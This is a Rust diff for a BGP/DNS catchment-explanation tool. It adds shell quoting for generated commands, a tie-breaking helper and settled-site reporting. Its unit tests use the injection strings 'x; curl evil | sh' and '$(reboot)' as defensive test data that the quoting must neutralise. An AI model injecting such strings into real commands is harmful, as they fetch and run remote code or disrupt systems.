@@ -18,7 +18,7 @@ use catchment_routing::{Situation, Step, Via, link_rtt_ms, solve};
 use super::flips::flip_info;
 use super::problems::{cancelled, no_such_dot, problem, unfinished, unsolved};
 use super::ways::{active_sites, first_prefix, layers, prefix_of};
-use super::{Played, Run, Watch};
+use super::{Played, Run, SCENARIO_FILE, Watch};
 use crate::api::{ChangeInfo, FlipInfo, HopInfo, NearInfo, OptionInfo, PacketInfo, Problem, Why};
 use crate::columns::fate_code;
 
@@ -57,6 +57,7 @@ pub fn why(
         packets: packets(&script, &parts, at_us),
         rtt_ms: None,
         nearest: nearest(&script, run, dot, at_us),
+        settled_site: None,
         flips: Vec::new(),
         command: command(played, dot, at_us, None),
     };
@@ -64,7 +65,7 @@ pub fn why(
         by_dns(&script, &parts, &mut why);
         return Ok(why);
     }
-    let fate = parts.iter().max_by(|a, b| a.share.total_cmp(&b.share)).map(|it| it.at(at_us));
+    let fate = main_part(&parts).map(|main| parts[main].at(at_us));
     let prefix = fate.and_then(|fate| prefix_of(&script, fate));
     let prefix = prefix.unwrap_or_else(|| first_prefix(&script));
     by_bgp(played, run, &script, prefix, &mut why, watch)?;
@@ -75,14 +76,23 @@ pub fn why(
     Ok(why)
 }
 
-/// The command that prints the same.
+/// A text as one word of a shell: names are free text, and a command is there to be pasted.
+pub fn shell_word(text: &str) -> String {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:+,@%".contains(&byte);
+    match !text.is_empty() && text.bytes().all(is_plain) {
+        true => text.to_owned(),
+        false => format!("'{}'", text.replace('\'', "'\\''")),
+    }
+}
+
+/// The command that prints the same, with [`SCENARIO_FILE`] for the scenario.
 fn command(played: &Played, dot: u32, at_us: i64, prefix: Option<String>) -> String {
     let world = &played.assembled.world;
     let asn = world.asn_of(dot);
-    let mut command = format!("catchment explain {} --as {asn}", played.scenario.name);
+    let mut command = format!("catchment explain {SCENARIO_FILE} --as {asn}");
     let routers = world.routers_of_asn(asn);
     if let Some(place) = world.place(dot).filter(|_| world.shown_router(routers) != dot) {
-        command += &format!(" --city {}", place.code);
+        command += &format!(" --city {}", shell_word(&place.code));
     }
     if let Some(prefix) = prefix {
         command += &format!(" --prefix {prefix}");
@@ -106,6 +116,14 @@ impl Part<'_> {
     }
 }
 
+/// The part that stands for a dot: the largest, of equal ones the first. The map draws it by the
+/// same rule.
+fn main_part(parts: &[Part<'_>]) -> Option<usize> {
+    let share = |index: &usize| parts[*index].share;
+    // Of equal ones `max_by` takes the last.
+    (0..parts.len()).rev().max_by(|a, b| share(a).total_cmp(&share(b)))
+}
+
 fn parts(run: &Run, dot: u32) -> Vec<Part<'_>> {
     let mut parts = Vec::new();
     for delivery in [&run.timeline.delivery, &run.timeline.bystanders] {
@@ -120,7 +138,7 @@ fn parts(run: &Run, dot: u32) -> Vec<Part<'_>> {
 
 /// What became of packets from t = 0 up to a time.
 fn packets(script: &Script<'_>, parts: &[Part<'_>], at_us: i64) -> Vec<PacketInfo> {
-    let largest = parts.iter().max_by(|a, b| a.share.total_cmp(&b.share));
+    let largest = main_part(parts).map(|main| &parts[main]);
     let told: Vec<&Part<'_>> = match parts.len() {
         0..=PARTS_TOLD => parts.iter().collect(),
         _ => largest.into_iter().collect(),
@@ -221,7 +239,7 @@ fn by_bgp(
     }
     let then =
         Situation { overlay: &recalled.overlay, service: &recalled.service, ..script.situation };
-    why.flips = flips(then, prefix, why, watch)?;
+    (why.settled_site, why.flips) = settled(then, prefix, why, watch)?;
     Ok(())
 }
 
@@ -230,15 +248,15 @@ fn site_of(service: &Service, name: &str) -> Option<u32> {
     place.map(|place| place as u32)
 }
 
-/// Single changes that move the dot away from where it is. They are solved in the steady state,
-/// which has no past: what only age has decided may go back without anybody's doing there, and is
-/// left out.
-fn flips(
+/// Where the dot is in the steady state, and single changes that move it away from there. That
+/// state has no past: where it differs from what the dot uses, because of age or because news are
+/// still under way, its changes say nothing of the dot, and there are none.
+fn settled(
     situation: Situation<'_>,
     prefix: u16,
     why: &Why,
     watch: Watch<'_>,
-) -> Result<Vec<FlipInfo>, Problem> {
+) -> Result<(Option<u32>, Vec<FlipInfo>), Problem> {
     let mut catchments = Vec::new();
     for prefix in 0..situation.service.prefixes.len() as u16 {
         if watch("solving", 0, 0) == ControlFlow::Break(()) {
@@ -247,16 +265,17 @@ fn flips(
         match solve(situation, prefix) {
             Ok(catchment) => catchments.push(catchment),
             // What goes on for ever without a past may settle with one.
-            Err(catchment_routing::Unsolved::Oscillation(_)) => return Ok(Vec::new()),
+            Err(catchment_routing::Unsolved::Oscillation(_)) => return Ok((None, Vec::new())),
             Err(error) => return Err(unsolved(error)),
         }
     }
     let mut goes_on = || watch("solving", 0, 0) == ControlFlow::Continue(());
     let found = explain_while(situation, &catchments, why.dot, prefix, &mut goes_on);
     let Some(found) = found.map_err(unsolved)? else { return Err(cancelled()) };
-    let flips = found.flips.iter();
+    let settled = found.site.as_deref().and_then(|name| site_of(situation.service, name));
+    let flips = found.flips.iter().filter(|_| settled == why.site);
     let info = flips.filter_map(|flip| flip_info(situation.world, situation.service, flip));
-    Ok(info.filter(|flip| why.site.is_none() || flip.lands_at != why.site).collect())
+    Ok((settled, info.collect()))
 }
 
 fn hop_info(script: &Script<'_>, aged: &AgedHop, weighs_rtt: bool) -> HopInfo {
@@ -424,10 +443,7 @@ fn chooses(step: Step, winner: &Choosable, loser: &Choosable) -> String {
 fn by_dns(script: &Script<'_>, parts: &[Part<'_>], why: &mut Why) {
     let Situation { world, service, rules, .. } = script.situation;
     let at_us = why.at_us;
-    let Some(largest) = (0..parts.len()).max_by(|a, b| {
-        // The first of equal ones.
-        parts[*a].share.total_cmp(&parts[*b].share).then(b.cmp(a))
-    }) else {
+    let Some(largest) = main_part(parts) else {
         why.verdict = format!("{} asks nobody", why.subject);
         return;
     };
@@ -491,5 +507,39 @@ fn reason(script: &Script<'_>, why: &Why, site: u32) -> String {
             Some(_) => format!("the nearest healthy site to the resolver when it asked{km}"),
             None => "a healthy site when it asked".to_owned(),
         },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Delivery, Part, main_part, shell_word};
+
+    #[test]
+    fn the_first_of_the_largest_parts_stands_for_a_dot() {
+        let delivery = Delivery::default();
+        let main = |shares: &[f64]| {
+            let part = |share: &f64| Part { delivery: &delivery, stream: 0, share: *share };
+            main_part(&shares.iter().map(part).collect::<Vec<_>>())
+        };
+        assert_eq!(main(&[0.5, 0.5]), Some(0));
+        assert_eq!(main(&[0.2, 0.4, 0.4]), Some(1));
+        assert_eq!(main(&[0.3, 0.3, 0.4]), Some(2));
+        assert_eq!(main(&[]), None);
+    }
+
+    #[test]
+    fn a_name_is_one_word_of_a_shell() {
+        for (name, word) in [
+            ("frankfurt-fails", "frankfurt-fails"),
+            ("my/own.toml", "my/own.toml"),
+            ("", "''"),
+            ("x; curl evil | sh", "'x; curl evil | sh'"),
+            ("$(reboot)", "'$(reboot)'"),
+            ("it's", "'it'\\''s'"),
+            ("São Paulo", "'São Paulo'"),
+            ("a\nb", "'a\nb'"),
+        ] {
+            assert_eq!(shell_word(name), word);
+        }
     }
 }
